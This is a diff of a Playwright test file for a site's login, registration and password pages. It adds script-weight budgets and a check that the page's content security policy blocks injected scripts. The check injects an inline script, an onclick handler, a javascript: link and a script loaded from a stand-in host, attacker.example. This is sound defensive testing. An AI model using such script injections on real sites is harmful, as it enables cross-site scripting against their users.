@@ -1,31 +1,101 @@
-// The pages of the account as they open, by day and by night.
+// The pages of the account as they open, by day and by night: what they show, what their scripts weigh,
+// and that no foreign script runs.
 import type { Page } from 'playwright/test';
 import { keep, newCandidate } from '../candidate.ts';
 import { expect, test, expectFine } from '../page.ts';
 import { siteUrl } from '../portal.ts';
+import { countScriptBytes } from '../ui/script-bytes.ts';
 
-test('/login stands alone, fades in and fits the screen', ({ page }) =>
-  expectAuthPage(page, '/login'));
+const KB = 1024;
+/** Scripts in all. */
+const budgets: Record<string, number> = { '/login': 85 * KB, '/register': 125 * KB };
 
-test('/register stands alone, on a cloth, fades in and fits the screen', ({ page }) =>
-  expectAuthPage(page, '/register'));
+test('/login stands alone, fades in and fits the screen, and runs no script but its own', ({
+  page,
+  faults,
+}) => expectAuthPage(page, '/login', faults));
 
-test('/verify-email stands alone, fades in and fits the screen', ({ page }) =>
-  expectAuthPage(page, '/verify-email'));
+test('/register stands alone, on a cloth, fades in and fits the screen, and runs no script but its own', ({
+  page,
+  faults,
+}) => expectAuthPage(page, '/register', faults));
 
-test('/forget-password stands alone, fades in and fits the screen', ({ page }) =>
-  expectAuthPage(page, '/forget-password'));
+// What they load has no budget of its own: one tab visits them.
+test('so do /verify-email, /forget-password and /reset-password', async ({ page, faults }) => {
+  for (const address of ['/verify-email', '/forget-password', '/reset-password'])
+    await test.step(address, () => expectAuthPage(page, address, faults));
+});
 
-test('/reset-password stands alone, fades in and fits the screen', ({ page }) =>
-  expectAuthPage(page, '/reset-password'));
-
-async function expectAuthPage(page: Page, address: string): Promise<void> {
+async function expectAuthPage(page: Page, address: string, faults: string[]): Promise<void> {
+  const weight = countScriptBytes(page);
+  await page.emulateMedia({ reducedMotion: 'no-preference' });
   await expectAlone(page, address);
   // The cloth in the background.
   await expect(page.locator('.cloth')).toHaveCount(address === '/register' ? 1 : 0);
   await expect(page.getByRole('button').last()).toBeEnabled();
+  await expect(page.locator('astro-island').first()).toBeAttached();
+  await expect(page.locator('astro-island[ssr]')).toHaveCount(0);
   await page.emulateMedia({ reducedMotion: 'reduce' });
   await expectFine(page);
+  // The last to arrive; it tries an eval when it comes, and continues without it.
+  if (address === '/register') {
+    await page.locator('input[name="phone"]').focus();
+    await expect(page.locator('.selected-flag')).toBeVisible();
+  }
+  const budget = budgets[address];
+  if (budget) {
+    await page.getByRole('button').last().click();
+    await expect(page.locator('.error-summary')).toBeVisible();
+    const bytes = await weight();
+    // Proves that the count is not empty because of a change of names.
+    expect(bytes).toBeGreaterThan(50 * KB);
+    expect(bytes).toBeLessThanOrEqual(budget);
+  }
+  expect(faults).toEqual([]);
+  await expectForeignScriptsStopped(page);
+  // The console reports each one.
+  expect(faults.splice(0).length).toBeGreaterThan(0);
+}
+
+async function expectForeignScriptsStopped(page: Page): Promise<void> {
+  const stopped = await page.evaluate(async () => {
+    const run: string[] = [];
+    Object.assign(globalThis, { run });
+    const violations: string[] = [];
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
+      violations.push(`${effectiveDirective} ${blockedURI}`),
+    );
+    const inline = document.createElement('script');
+    inline.textContent = 'run.push("inline")';
+    document.body.append(inline);
+    const handler = document.createElement('div');
+    handler.setAttribute('onclick', 'run.push("handler")');
+    document.body.append(handler);
+    handler.click();
+    const link = document.createElement('a');
+    link.href = 'javascript:run.push("address")';
+    document.body.append(link);
+    link.click();
+    const foreign = document.createElement('script');
+    foreign.src = 'https://attacker.example/x.js';
+    const failed = new Promise((resolve) => (foreign.onerror = resolve));
+    document.body.append(foreign);
+    await failed;
+    await new Promise((resolve) => setTimeout(resolve));
+    return { run, violations };
+  });
+  expect(stopped.run).toEqual([]);
+  expect(stopped.violations.sort()).toEqual([
+    'script-src-attr inline',
+    'script-src-elem https://attacker.example/x.js',
+    'script-src-elem inline',
+    'script-src-elem inline',
+  ]);
+  const policy = await page
+    .locator('meta[http-equiv="content-security-policy" i]')
+    .getAttribute('content');
+  expect(policy).toMatch(/script-src /);
+  expect(policy).not.toMatch(/script-src[^;]*'unsafe-(inline|eval)'/);
 }
 
 test('the terms stand alone and fade in, and open for signed-in candidates too', async ({
